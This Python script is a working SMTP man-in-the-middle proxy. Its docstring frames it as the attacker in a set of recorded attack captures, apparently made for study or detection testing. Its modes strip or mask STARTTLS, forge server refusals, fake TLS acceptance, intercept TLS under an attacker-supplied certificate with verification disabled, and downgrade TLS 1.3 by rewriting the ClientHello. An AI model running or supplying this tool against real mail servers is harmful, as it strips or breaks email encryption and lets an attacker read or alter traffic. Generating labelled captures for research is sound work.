#!/usr/bin/env python3
"""The man in the middle of the recorded attacks: takes connections on an address that is not his, and talks to the
real server beside it.

usage: mitm.py MODE LISTEN PORT SERVER [CERT.PEM [MAXVERSION]]

Each mode alters one thing only; everything else goes through octet by octet, so that a capture and its benign twin
differ in that thing alone. Python 3 standard library; one thread for each direction."""
import re
import socket
import ssl
import sys
import threading

MODES = ("strip", "mask", "refuse454", "ehlo502", "rewrite", "answer-clear", "intercept", "downgrade")


def lines(sock):
    """Reads CRLF lines, one octet at a time: nothing behind a line may be swallowed, for TLS may follow."""
    line = b""
    while True:
        octet = sock.recv(1)
        if not octet:
            if line:
                yield line
            return
        line += octet
        if octet == b"\n":
            yield line
            line = b""


def reply(server_lines):
    """One whole reply of the server, as a list of lines; empty at the end of the stream."""
    got = []
    for line in server_lines:
        got.append(line)
        if line[3:4] != b"-":
            break
    return got


def without_starttls(got):
    """The reply without the STARTTLS line; the line before it becomes the last if STARTTLS was."""
    kept = [x for x in got if x[4:].strip().upper() != b"STARTTLS"]
    if len(kept) < len(got) and kept:
        kept[-1] = kept[-1][:3] + b" " + kept[-1][4:]
    return kept


def pump(source, sink, change=None):
    """Copies octets until the end of the source; the first chunk may be changed."""
    try:
        while True:
            data = source.recv(65536)
            if not data:
                break
            if change:
                data, change = change(data), None
            sink.sendall(data)
    except OSError:
        pass
    for s, how in ((sink, socket.SHUT_WR), (source, socket.SHUT_RD)):
        try:
            socket.socket.shutdown(s, how)  # the TCP level, also of a TLS socket
        except OSError:
            pass


def both_ways(client, server, change=None):
    back = threading.Thread(target=pump, args=(server, client), daemon=True)
    back.start()
    pump(client, server, change)
    back.join(10)


def hide_tls13(hello):
    """A ClientHello whose supported_versions names no TLS 1.3: 0x0304 becomes a reserved value (RFC 8701), same
    length. An honest server then answers with TLS 1.2 and the sentinel of RFC 8446 4.1.3."""
    at = hello.find(b"\x00\x2b\x00")
    if at < 0:
        return hello
    end = at + 4 + int.from_bytes(hello[at + 2:at + 4], "big")
    body = bytearray(hello[at + 5:end])
    for i in range(0, len(body) - 1, 2):
        if body[i:i + 2] == b"\x03\x04":
            body[i:i + 2] = b"\x0a\x0a"
    return hello[:at + 5] + bytes(body) + hello[end:]


def intercept(client, server, cert, highest):
    """TLS with the client under a certificate of the attacker's own, TLS with the server as any client."""
    ours = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ours.load_cert_chain(cert)
    ours.maximum_version = highest
    ours.options |= ssl.OP_NO_TICKET
    theirs = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    theirs.check_hostname = False
    theirs.verify_mode = ssl.CERT_NONE
    try:
        c = ours.wrap_socket(client, server_side=True)
        s = theirs.wrap_socket(server)
    except OSError:
        return
    both_ways(c, s)
    c.close()
    s.close()


def own_answer(mode, verb, client):
    """True if the attacker answered the command himself."""
    if mode == "ehlo502" and verb.startswith(b"EHLO"):
        client.sendall(b"502 5.5.2 Error: command not recognized\r\n")
    elif mode == "refuse454" and verb == b"STARTTLS":
        client.sendall(b"454 4.7.0 TLS not available due to local problem\r\n")
    elif mode == "answer-clear" and verb == b"STARTTLS":
        client.sendall(b"220 2.0.0 Ready to start TLS\r\n")
        client.recv(65536)
        client.sendall(b"500 5.5.1 Command unrecognized\r\n")
    else:
        return False
    return True


def dialogue(mode, client, server, cert, highest):
    from_client, from_server = lines(client), lines(server)
    client.sendall(b"".join(reply(from_server)))
    for command in from_client:
        verb = command.strip().upper()
        if own_answer(mode, verb, client):
            continue
        if verb == b"STARTTLS" and mode == "rewrite":
            command = re.sub(rb"\S", b"X", command)
        server.sendall(command)
        got = reply(from_server)
        if verb.startswith(b"EHLO") and mode == "strip":
            got = without_starttls(got)
        if verb.startswith(b"EHLO") and mode == "mask":
            got = [re.sub(rb"(?i)STARTTLS", b"XXXXXXXA", x) for x in got]
        client.sendall(b"".join(got))
        if not got or verb == b"QUIT":
            return
        if verb == b"STARTTLS" and got[0][:3] == b"220":
            if mode == "intercept":
                intercept(client, server, cert, highest)
            else:
                both_ways(client, server, hide_tls13 if mode == "downgrade" else None)
            return
        if verb == b"DATA" and got[0][:3] == b"354":
            for text in from_client:
                server.sendall(text)
                if text == b".\r\n":
                    break
            client.sendall(b"".join(reply(from_server)))


def serve(mode, client, where, port, cert, highest):
    try:
        server = socket.create_connection((where, port), timeout=30)
        dialogue(mode, client, server, cert, highest)
        server.close()
    except OSError:
        pass
    client.close()


def main():
    if len(sys.argv) < 5 or sys.argv[1] not in MODES:
        print(__doc__, file=sys.stderr)
        return 2
    mode, listen, port, where = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]
    cert = sys.argv[5] if len(sys.argv) > 5 else None
    highest = ssl.TLSVersion.TLSv1_2 if sys.argv[6:] == ["1.2"] else ssl.TLSVersion.TLSv1_3
    door = socket.create_server((listen, port), family=socket.AF_INET6 if ":" in listen else socket.AF_INET)
    while True:
        client, _ = door.accept()
        client.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        threading.Thread(target=serve, args=(mode, client, where, port, cert, highest), daemon=True).start()


if __name__ == "__main__":
    sys.exit(main())
